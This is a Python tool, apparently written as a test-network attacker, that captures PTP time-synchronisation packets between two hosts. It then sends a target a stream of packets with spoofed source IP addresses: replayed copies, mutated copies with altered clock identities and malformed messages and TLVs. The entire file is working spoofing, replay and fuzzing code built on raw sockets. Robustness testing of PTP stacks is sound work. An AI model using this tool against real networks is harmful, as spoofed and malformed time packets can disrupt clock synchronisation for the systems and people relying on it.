"""An attacker in the network of agents.

`forger.py record FILE SECONDS PEER` keeps the packets of PTP between this host and another one, a line of hexadecimal
digits each. `forger.py forge FILE TARGET SOURCES PACKETS RATE SEED` sends PACKETS to TARGET from SOURCES (comma
separated) and by ways of several lengths: a third each of copies of what was kept, changed copies and random messages.
Identities in what is changed are others: only who is on the path knows them. It prints the number sent.
"""

import random
import socket
import struct
import sys
import time
from collections.abc import Iterator
from pathlib import Path

PORTS = (319, 320)
TYPES = (0x0, 0x1, 0x2, 0x3, 0x8, 0x9, 0xA, 0xB, 0xC, 0xD)
KNOWN_TLVS = (0x3, 0x4, 0x5, 0x6, 0x8, 0x2004, 0x8000, 0x8009)
HOPS = (64, 62, 57)
BATCH = 64
_IP, _UDP = 20, 8


def record(file: Path, seconds: float, peer: str) -> None:
    """Keep packets for some seconds."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    raw.bind(("e0", 0x0800))
    raw.settimeout(0.2)
    print("recording", flush=True)
    kept, until_s = [], time.monotonic() + seconds
    while time.monotonic() < until_s:
        try:
            packet = raw.recv(2048)
        except TimeoutError:
            continue
        is_of_peer = socket.inet_aton(peer) in (packet[12:16], packet[16:20])
        if is_of_peer and packet[9] == socket.IPPROTO_UDP and struct.unpack_from("!H", packet, _IP + 2)[0] in PORTS:
            kept.append(packet[_IP:].hex())
    file.write_text("\n".join(kept))


def forge(file: Path, target: str, sources: list[str], packets: int, rate: float, seed: int) -> None:
    """Send forged packets, `rate` a second."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    kept = [bytes.fromhex(line) for line in file.read_text().split()]
    began_s = time.monotonic()
    for nth, content in zip(range(packets), _contents(kept, random.Random(seed)), strict=False):
        source = sources[nth % len(sources)]
        head = struct.pack(
            "!BBHHHBBH", 0x45, 0, _IP + len(content), nth & 0xFFFF, 0, HOPS[nth // 7 % 3], socket.IPPROTO_UDP, 0
        )
        raw.sendto(head + socket.inet_aton(source) + socket.inet_aton(target) + content, (target, 0))
        if nth % BATCH == 0:
            time.sleep(max(0.0, began_s + nth / rate - time.monotonic()))
    print(f"sent {packets}", flush=True)


def _contents(kept: list[bytes], draw: random.Random) -> Iterator[bytes]:
    """Yield UDP datagrams without a checksum."""
    known = {copy[_UDP + 20 : _UDP + 28] for copy in kept}
    while True:
        copy = draw.choice(kept)
        yield copy[:6] + bytes(2) + copy[_UDP:]
        stranger = _without(draw.choice(kept)[_UDP:], known, draw)
        yield _datagram(_changed(bytearray(stranger), draw), draw)
        yield _datagram(_message(draw), draw)


def _without(message: bytes, identities: set[bytes], draw: random.Random) -> bytes:
    """Return a message with other identities, also where 48 bits of them prove an address."""
    for identity in identities:
        message = message.replace(identity, draw.randbytes(8)).replace(identity[2:], draw.randbytes(6))
    return message


def _changed(message: bytearray, draw: random.Random) -> bytes:
    """Return a message of a peer with some octets, its sequence id or its length changed, or with a TLV."""
    for _ in range(draw.choice((0, 1, 4))):
        message[draw.randrange(len(message))] = draw.randrange(256)
    kind = draw.randrange(4)
    if kind == 0 and len(message) >= 32:
        struct.pack_into("!H", message, 30, draw.randrange(1 << 16))
    if kind == 1:
        return bytes(message[: draw.randrange(len(message) + 1)])
    return bytes(message) + (_tlv(draw) if kind == 2 else b"")


def _message(draw: random.Random) -> bytes:
    """Return a message of any type with random fields (IEEE 1588-2019, 13.3) and TLVs of any length."""
    body = draw.randbytes(draw.choice((0, 10, 14, 20, 30))) + b"".join(_tlv(draw) for _ in range(draw.randrange(4)))
    length = 34 + len(body) if draw.random() < 0.8 else draw.randrange(1 << 16)
    flags = draw.choice((0, 0x2000, 0x4000, 0x6000, 0x400, draw.randrange(1 << 16)))
    head = struct.pack("!BBHBBH", draw.choice(TYPES), draw.choice((0x02, 0x12)), length, 0, 0, flags)
    return head + draw.randbytes(26) + body


def _tlv(draw: random.Random) -> bytes:
    """Return a TLV whose length is right or any (IEEE 1588-2019, 14.1)."""
    kind = draw.choice((*KNOWN_TLVS, draw.randrange(1 << 16)))
    value = draw.randbytes(draw.choice((0, 2, 6, 10, 200, 1_000)))
    length = len(value) if draw.random() < 0.5 else draw.randrange(1 << 16)
    return struct.pack("!HH", kind, length) + value


def _datagram(message: bytes, draw: random.Random) -> bytes:
    port = draw.choice(PORTS)
    message = message[:1_400]
    return struct.pack("!HHHH", port, port, _UDP + len(message), 0) + message


if __name__ == "__main__":
    _, what, kept_in, *rest = sys.argv
    if what == "record":
        record(Path(kept_in), float(rest[0]), rest[1])
    else:
        forge(Path(kept_in), rest[0], rest[1].split(","), int(rest[2]), float(rest[3]), int(rest[4]))
